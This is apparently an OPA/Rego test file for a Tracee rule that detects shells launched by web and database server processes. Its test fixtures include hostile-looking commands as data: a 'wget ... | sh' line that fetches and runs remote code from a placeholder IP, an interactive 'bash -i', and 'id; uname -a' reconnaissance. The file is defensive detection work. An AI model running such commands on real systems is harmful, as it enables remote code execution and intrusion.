# opa test cases for illegitimate_shell.rego.
package tracee.VGL_7_test

import data.tracee.VGL_7
import rego.v1

exec_event(prev_comm, pathname, argv) := {
	"processId": 21877,
	"processName": argv_name(argv),
	"eventName": "sched_process_exec",
	"syscall": "execve",
	"returnValue": 0,
	"args": [
		{"name": "cmdpath", "type": "const char*", "value": "/bin/sh"},
		{"name": "pathname", "type": "const char*", "value": pathname},
		{"name": "dev", "type": "dev_t", "value": 8388609},
		{"name": "inode", "type": "unsigned long", "value": 1048630},
		{"name": "ctime", "type": "unsigned long", "value": 1795680000123456789},
		{"name": "inode_mode", "type": "umode_t", "value": 33261},
		{"name": "interpreter_pathname", "type": "const char*", "value": "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"},
		{"name": "interpreter_dev", "type": "dev_t", "value": 8388609},
		{"name": "interpreter_inode", "type": "unsigned long", "value": 1050020},
		{"name": "interpreter_ctime", "type": "unsigned long", "value": 1795600000000000000},
		{"name": "argv", "type": "const char**", "value": argv},
		{"name": "interp", "type": "const char*", "value": "/bin/sh"},
		{"name": "stdin_type", "type": "string", "value": "S_IFCHR"},
		{"name": "stdin_path", "type": "char*", "value": "/dev/null"},
		{"name": "invoked_from_kernel", "type": "int", "value": 0},
		{"name": "prev_comm", "type": "const char*", "value": prev_comm},
		{"name": "env", "type": "const char**", "value": []},
	],
}

argv_name(argv) := name if {
	parts := split(argv[0], "/")
	name := parts[count(parts) - 1]
}

test_nginx_runs_dash_matches if {
	VGL_7.tracee_match == {"shell": "/usr/bin/dash", "parent_comm": "nginx"} with input as exec_event("nginx", "/usr/bin/dash", ["sh", "-c", "id; uname -a"])
}

test_php_fpm_runs_bash_matches if {
	VGL_7.tracee_match == {"shell": "/usr/bin/bash", "parent_comm": "php-fpm8.2"} with input as exec_event("php-fpm8.2", "/usr/bin/bash", ["bash", "-i"])
}

test_postgres_runs_busybox_sh_matches if {
	VGL_7.tracee_match.parent_comm == "postgres" with input as exec_event("postgres", "/bin/busybox", ["/bin/sh", "-c", "wget -qO- http://198.51.100.7/x | sh"])
}

test_busybox_applet_other_than_shell_does_not_match if {
	not VGL_7.tracee_match with input as exec_event("nginx", "/bin/busybox", ["wget", "-q", "http://198.51.100.7/x"])
}

test_nginx_runs_other_program_does_not_match if {
	not VGL_7.tracee_match with input as exec_event("nginx", "/usr/sbin/nginx", ["nginx", "-s", "reload"])
}

test_interactive_shell_does_not_match if {
	not VGL_7.tracee_match with input as exec_event("sshd-session", "/usr/bin/bash", ["-bash"])
}

test_shell_lookalike_name_does_not_match if {
	not VGL_7.tracee_match with input as exec_event("nginx", "/usr/local/bin/flash", ["flash"])
}
